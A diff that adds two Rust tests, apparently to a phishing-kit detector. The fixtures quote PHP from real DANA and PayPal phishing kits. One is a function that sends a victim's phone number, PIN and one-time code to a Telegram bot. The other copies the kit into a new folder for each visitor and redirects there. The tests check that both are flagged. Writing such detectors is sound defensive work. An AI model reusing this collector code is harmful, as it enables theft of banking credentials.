@@ -884,3 +884,27 @@ fn a_kits_settings_file_holding_only_its_mailbox_is_found() {
         assert!(kit_mailbox(src.as_bytes()).is_none(), "{src}");
     }
 }
+
+#[test]
+fn a_pin_and_a_one_time_code_put_in_a_chat_bots_message_are_collected() {
+    // fresh142's DANA kit: the values are a function's parameters, handed by the kit's pages.
+    let src = "<?php function send_to_telegram($nomor, int $pin, int $otp) { include __DIR__ . '/config.php';\n\
+               $token = $config['telegram_bot_token']; $chat_id = $config['chat_id'];\n\
+               $message = \"Nomor: $nomor\\nPin: $pin\\nOtp: $otp\";\n$ch = curl_init();\n\
+               curl_setopt($ch, CURLOPT_URL, \"https://api.telegram.org/bot\" . $token . \"/sendMessage\");\n\
+               curl_setopt($ch, CURLOPT_POSTFIELDS, \"chat_id=\" . $chat_id . \"&text=\" . $message); curl_exec($ch); }";
+    assert_eq!(found(src), [Why::CredentialCollector]);
+    // An order notice to the owner's bot: no secret in it.
+    let order = src.replace("Pin: $pin\\nOtp: $otp", "Order: $pin\\nTotal: $otp");
+    assert!(found(&order).is_empty());
+}
+
+#[test]
+fn a_copier_naming_each_visitors_folder_by_the_clock_is_a_kit_copier() {
+    // fresh142's PayPal kit `dir_copy.php`.
+    let src = "<?php include('anti/anti.php'); $date = new DateTime('NOW'); $FOL = md5($date->format('m-d-Y H:i:s.u'));\n\
+               $YSS = 'app'; copyx($YSS, $FOL); header(\"location: $FOL\");\n\
+               function copyx($s, $d) { $dir = opendir($s); @mkdir($d); while (false !== ($f = readdir($dir))) {\n\
+               if ($f != '.' && $f != '..') { if (is_dir($s . '/' . $f)) { copyx($s . '/' . $f, $d . '/' . $f); } else { copy($s . '/' . $f, $d . '/' . $f); } } } closedir($dir); }";
+    assert_eq!(found(src), [Why::KitCopier]);
+}
